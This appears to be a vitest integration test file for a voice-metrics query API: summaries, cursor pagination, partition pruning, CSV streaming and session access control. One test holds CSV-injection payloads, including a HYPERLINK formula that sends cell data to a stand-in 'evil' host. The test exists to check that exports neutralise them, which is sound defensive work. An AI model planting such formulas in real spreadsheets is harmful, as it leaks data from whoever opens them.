import { randomUUID } from 'node:crypto';
import { beforeKeysetText, type Database } from '@voicepulse/db';
import { openMigratedTestDatabase, type MigratedTestDatabase } from '@voicepulse/db/testing';
import { InvalidCursorError } from '@voicepulse/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  admitSessionMember,
  admitSessionWrites,
  SessionAccessError,
  getSessionDetail,
  MetricsReadRepository,
  MetricsWriter,
  QueryError,
  recordSessionEvents,
  ensureMonthPartitions,
  partitionName,
} from '../src';
import { event } from './helpers';

describe('query API (real Postgres)', () => {
  let testDb: MigratedTestDatabase;
  let database: Database;
  let writer: MetricsWriter;
  let reads: MetricsReadRepository;

  beforeAll(async () => {
    testDb = await openMigratedTestDatabase('ingestq', { max: 4 });
    database = testDb.database;
    writer = new MetricsWriter(database.pool, { retentionDays: 400 });
    reads = new MetricsReadRepository(database.pool);
  });
  afterAll(async () => {
    await testDb?.close();
  });

  it('summarises from the rollups by day and week, and from raw events by hour', async () => {
    const userId = `sum-${randomUUID()}`;
    const session = randomUUID();
    await writer.write([
      event({
        userId,
        sessionId: session,
        talkedTimeMs: 1000,
        microphoneUsed: true,
        speakerUsed: false,
        voiceSentiment: 0.5,
        recordedAt: '2026-11-02T10:15:00.000Z',
      }),
      event({
        userId,
        sessionId: session,
        talkedTimeMs: 3000,
        microphoneUsed: false,
        speakerUsed: true,
        voiceSentiment: -0.5,
        recordedAt: '2026-11-02T11:45:00.000Z',
      }),
      event({
        userId,
        talkedTimeMs: 500,
        microphoneUsed: true,
        speakerUsed: true,
        voiceSentiment: 1,
        recordedAt: '2026-11-03T08:00:00.000Z',
      }),
      // The other party of the first call: the user's listened time, nothing else of theirs.
      event({
        userId,
        sessionId: session,
        participant: 'customer',
        counterpart: true,
        talkedTimeMs: 2000,
        microphoneUsed: true,
        speakerUsed: true,
        voiceSentiment: -1,
        recordedAt: '2026-11-02T10:30:00.000Z',
      }),
      event({ userId: `${userId}-other`, recordedAt: '2026-11-02T10:00:00.000Z' }),
    ]);
    const range = { userId, from: '2026-11-01T00:00:00Z', to: '2026-11-10T00:00:00Z' };
    const daily = await reads.summary({ ...range, granularity: 'day' });
    expect(daily.series).toEqual([
      {
        start: '2026-11-02T00:00:00.000Z',
        events: 2,
        sessions: 1,
        talkedTimeMs: 4000,
        listenedTimeMs: 2000,
        talkToListenRatio: 2,
        microphoneUsedRatio: 0.5,
        speakerUsedRatio: 0.5,
        sentimentMean: 0,
      },
      {
        start: '2026-11-03T00:00:00.000Z',
        events: 1,
        sessions: 0,
        talkedTimeMs: 500,
        listenedTimeMs: 0,
        talkToListenRatio: null,
        microphoneUsedRatio: 1,
        speakerUsedRatio: 1,
        sentimentMean: 1,
      },
    ]);
    expect(daily.totals).toMatchObject({
      events: 3,
      talkedTimeMs: 4500,
      listenedTimeMs: 2000,
      talkToListenRatio: 2.25,
      microphoneUsedRatio: 2 / 3,
    });
    const weekly = await reads.summary({ ...range, granularity: 'week' });
    // 2026-11-02 is a Monday: both days fall in one ISO week.
    expect(weekly.series.map((s) => [s.start, s.events, s.sessions])).toEqual([
      ['2026-11-02T00:00:00.000Z', 3, 1],
    ]);
    const hourly = await reads.summary({ ...range, granularity: 'hour' });
    expect(hourly.series.map((s) => [s.start, s.events, s.talkedTimeMs, s.listenedTimeMs, s.sentimentMean])).toEqual([
      ['2026-11-02T10:00:00.000Z', 1, 1000, 2000, 0.5],
      ['2026-11-02T11:00:00.000Z', 1, 3000, 0, -0.5],
      ['2026-11-03T08:00:00.000Z', 1, 500, 0, 1],
    ]);
    await expect(
      reads.summary({ ...range, to: '2027-01-01T00:00:00Z', granularity: 'hour' }),
    ).rejects.toBeInstanceOf(QueryError);
  });

  it('pages through events with a keyset cursor, newest first, without gaps or repeats', async () => {
    const userId = `page-${randomUUID()}`;
    const at = '2026-11-05T12:00:00.000Z';
    // Same timestamp for several events: the event id breaks ties.
    const events = Array.from({ length: 25 }, (_, i) =>
      event({ userId, recordedAt: i < 10 ? at : new Date(Date.parse(at) + i * 1000).toISOString() }),
    );
    await writer.write(events);
    const seen: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await reads.events({
        userId,
        from: '2026-11-01T00:00:00Z',
        to: '2026-11-30T00:00:00Z',
        limit: 7,
        cursor,
      });
      seen.push(...page.items.map((e) => e.eventId));
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    expect(seen).toHaveLength(25);
    expect(new Set(seen).size).toBe(25);
    await expect(
      reads.events({
        userId,
        from: '2026-11-01T00:00:00Z',
        to: '2026-11-30T00:00:00Z',
        limit: 7,
        cursor: 'garbage',
      }),
    ).rejects.toThrow(/cursor/);
  });

  it('a page deep into the year plans only the monthly partitions at or before its cursor', async () => {
    // The row comparison alone implies the bound but does not prune; the cursor's explicit
    // `recorded_at <= cursor` bound must, or every deep page plans and probes all twelve months.
    const months = Array.from({ length: 12 }, (_, i) => `2025-${String(i + 1).padStart(2, '0')}-01`);
    await ensureMonthPartitions(database.pool, months);
    const params: unknown[] = ['prune-user', '2025-01-01T00:00:00Z', '2026-01-01T00:00:00Z'];
    const cursor = { at: '2025-03-15T00:00:00.000000Z', id: randomUUID() };
    const { rows } = await database.pool.query<{ 'QUERY PLAN': string }>(
      `explain select event_id from metric_events
        where user_id = $1 and recorded_at >= $2 and recorded_at < $3
          and ${beforeKeysetText('recorded_at', 'event_id', cursor, params)}
        order by recorded_at desc, event_id desc limit 50`,
      params,
    );
    const planned = new Set(rows.flatMap((r) => r['QUERY PLAN'].match(/metric_events_p\d{6}/g) ?? []));
    expect([...planned].sort()).toEqual(['2025-01-01', '2025-02-01', '2025-03-01'].map(partitionName));
  });

  it('lists the sessions of a period from the rollups, most recently active first, paginated', async () => {
    const userId = `sess-${randomUUID()}`;
    const [a, b, outside] = [randomUUID(), randomUUID(), randomUUID()];
    const ev = (sessionId: string | null, recordedAt: string, talkedTimeMs: number, voiceSentiment: number, user = userId) =>
      event({ userId: user, sessionId, recordedAt, talkedTimeMs, voiceSentiment });
    await writer.write([
      ev(a, '2026-11-06T10:01:00.000Z', 1000, 0.5),
      ev(a, '2026-11-06T10:07:30.250Z', 2000, -0.1),
      ev(b, '2026-11-06T12:00:00.000Z', 500, 0.2),
      ev(outside, '2026-11-08T09:00:00.000Z', 700, 0.9),
      ev(null, '2026-11-06T13:00:00.000Z', 900, 0.9),
      // Another participant of the same session: their activity is theirs, not this user's.
      ev(a, '2026-11-06T14:00:00.000Z', 99_000, -1, `other-${randomUUID()}`),
    ]);
    const period = { userId, from: '2026-11-06T00:00:00Z', to: '2026-11-07T00:00:00Z' };
    const all = await reads.sessionsInPeriod({ ...period, limit: 10 });
    expect(all).toEqual({
      items: [
        { sessionId: b, lastActivityAt: '2026-11-06T12:00:00.000000Z', events: 1, talkedTimeMs: 500, sentimentMean: 0.2 },
        { sessionId: a, lastActivityAt: '2026-11-06T10:07:30.250000Z', events: 2, talkedTimeMs: 3000, sentimentMean: expect.closeTo(0.2, 9) },
      ],
      nextCursor: null,
    });
    const first = await reads.sessionsInPeriod({ ...period, limit: 1 });
    expect(first.items.map((s) => s.sessionId)).toEqual([b]);
    const second = await reads.sessionsInPeriod({ ...period, limit: 1, cursor: first.nextCursor! });
    expect(second).toMatchObject({ items: [{ sessionId: a }], nextCursor: null });
    await expect(reads.sessionsInPeriod({ ...period, limit: 1, cursor: 'garbage' })).rejects.toBeInstanceOf(
      InvalidCursorError,
    );
    await expect(reads.sessionsInPeriod({ ...period, to: period.from, limit: 1 })).rejects.toBeInstanceOf(QueryError);
  });

  it('exports 100k rows as CSV through a stream that respects backpressure', async () => {
    const userId = `csv-${randomUUID()}`;
    const base = Date.now() - 10 * 86_400_000;
    const events = Array.from({ length: 100_000 }, (_, i) =>
      event({ userId, recordedAt: new Date(base + i * 1000).toISOString() }),
    );
    await writer.write(events);
    const stream = await reads.exportCsv({
      userId,
      from: new Date(base - 1).toISOString(),
      to: new Date().toISOString(),
    });
    let bytes = 0;
    let lines = 0;
    let maxBuffered = 0;
    let firstLine = '';
    for await (const chunk of stream) {
      const text = (chunk as Buffer).toString();
      if (!firstLine) firstLine = text.slice(0, text.indexOf('\n'));
      bytes += text.length;
      for (let i = text.indexOf('\n'); i !== -1; i = text.indexOf('\n', i + 1)) lines++;
      // A slow reader: if the export were buffered whole, the readable side would hold it all.
      if (lines % 20 === 0) await new Promise((r) => setTimeout(r, 1));
      maxBuffered = Math.max(maxBuffered, stream.readableLength);
    }
    expect(firstLine.startsWith('event_id,user_id,session_id')).toBe(true);
    expect(lines).toBe(100_001);
    expect(bytes).toBeGreaterThan(10_000_000);
    expect(maxBuffered).toBeLessThan(1_000_000);
    // The COPY connection went back to the pool.
    expect(database.pool.totalCount - database.pool.idleCount).toBe(0);
  });

  it('exports formula-looking cells inert (OWASP CSV injection)', async () => {
    const userId = `csvx-${randomUUID()}`;
    const recordedAt = new Date(Date.now() - 3_600_000).toISOString();
    const payloads = [
      '=HYPERLINK("http://evil/?x="&A1,"click")',
      '+1+2',
      '-2+3',
      '@SUM(A1)',
      '\tcmd',
      '\rcmd',
      'plain',
    ];
    await writer.write(
      payloads.map((deviceId, i) =>
        event({ userId, deviceId, platform: i === 0 ? '=1+1' : 'ios', voiceSentiment: -0.5, recordedAt }),
      ),
    );
    const stream = await reads.exportCsv({
      userId,
      from: new Date(Date.now() - 86_400_000).toISOString(),
      to: new Date().toISOString(),
    });
    let csv = '';
    for await (const chunk of stream) csv += (chunk as Buffer).toString();
    const header = csv.slice(0, csv.indexOf('\n')).split(',');
    const device = header.indexOf('device_id');
    // Cells in a row: quoted free text never contains a bare comma here, so a split suffices.
    const cells = csv
      .trim()
      .split('\n')
      .slice(1)
      .map((line) => line.split(','));
    const devices = new Set(cells.map((c) => c[device]));
    expect(devices).toEqual(
      new Set([
        // Quotes inside a cell are doubled, and the cell starts with a quote character.
        `"'=HYPERLINK(""http://evil/?x=""&A1`,
        `"'+1+2"`,
        `"'-2+3"`,
        `"'@SUM(A1)"`,
        `"'\tcmd"`,
        `"'\rcmd"`,
        `"plain"`,
      ]),
    );
    expect(csv).toContain(`"'=1+1"`);
    // Numbers are not free text: a negative sentiment stays a number.
    expect(csv).toContain(',-0.5,');
    expect(csv).not.toContain("'-0.5");
  });

  it('records a session timeline idempotently and shows it to participants only', async () => {
    const sessionId = randomUUID();
    const alice = { id: 'alice', admin: false };
    const input = [
      {
        type: 'join' as const,
        occurredAt: '2026-11-06T09:00:00Z',
        deviceId: 'laptop',
        timezone: 'Europe/Berlin',
      },
      { type: 'mute' as const, occurredAt: '2026-11-06T09:05:00Z', deviceId: 'laptop' },
      { type: 'leave' as const, occurredAt: '2026-11-06T09:30:00Z', deviceId: 'laptop' },
    ];
    expect(await recordSessionEvents(database.pool, sessionId, alice, 'alice', input)).toEqual({
      accepted: 3,
      duplicates: 0,
    });
    expect(await recordSessionEvents(database.pool, sessionId, alice, 'alice', input)).toEqual({
      accepted: 0,
      duplicates: 3,
    });
    await writer.write([
      event({
        userId: 'alice',
        sessionId,
        deviceId: 'laptop',
        voiceSentiment: 0.4,
        recordedAt: '2026-11-06T09:10:20.000Z',
      }),
    ]);
    const detail = await getSessionDetail(database.pool, sessionId, 'alice');
    expect(detail?.participants).toEqual([
      {
        userId: 'alice',
        deviceId: 'laptop',
        joinedAt: '2026-11-06T09:00:00.000Z',
        leftAt: '2026-11-06T09:30:00.000Z',
        timezone: 'Europe/Berlin',
      },
    ]);
    expect(detail?.timeline.map((t) => t.type)).toEqual(['join', 'mute', 'leave']);
    expect(detail?.sentiment).toEqual([
      { userId: 'alice', start: '2026-11-06T09:10:00.000Z', samples: 1, mean: 0.4, min: 0.4, max: 0.4 },
    ]);
    expect(await getSessionDetail(database.pool, sessionId, 'mallory')).toBeNull();
    expect(await getSessionDetail(database.pool, sessionId, null)).not.toBeNull();
  });

  it('session membership is granted, not asserted: a non-member cannot write or read until the owner admits them', async () => {
    const sessionId = randomUUID();
    const [owner, bob] = [
      { id: 'owner', admin: false },
      { id: 'bob', admin: false },
    ];
    const join = [{ type: 'join' as const, occurredAt: '2026-11-06T09:00:00Z' }];
    await recordSessionEvents(database.pool, sessionId, owner, 'owner', join);
    await expect(recordSessionEvents(database.pool, sessionId, bob, 'bob', join)).rejects.toBeInstanceOf(
      SessionAccessError,
    );
    // A metric naming the session is refused the same way, and admits nobody.
    expect(
      await admitSessionWrites(database.pool, bob, [{ sessionId, userId: 'bob', at: join[0]!.occurredAt }]),
    ).toEqual([sessionId]);
    expect(await getSessionDetail(database.pool, sessionId, 'bob')).toBeNull();
    expect(await admitSessionMember(database.pool, sessionId, bob, 'bob')).toBe(false);
    expect(await admitSessionMember(database.pool, sessionId, owner, 'bob')).toBe(true);
    await recordSessionEvents(database.pool, sessionId, bob, 'bob', join);
    expect(
      (await getSessionDetail(database.pool, sessionId, 'bob'))?.participants.map((p) => p.userId).sort(),
    ).toEqual(['bob', 'owner']);
    // An ingest service owning its session admits the users it writes for.
    const svc = { id: 'ingest-svc', admin: false };
    const svcSession = randomUUID();
    expect(
      await admitSessionWrites(database.pool, svc, [
        { sessionId: svcSession, userId: 'carol', at: join[0]!.occurredAt },
      ]),
    ).toEqual([]);
    expect(await getSessionDetail(database.pool, svcSession, 'carol')).not.toBeNull();
    expect(await getSessionDetail(database.pool, svcSession, 'bob')).toBeNull();
  });
});
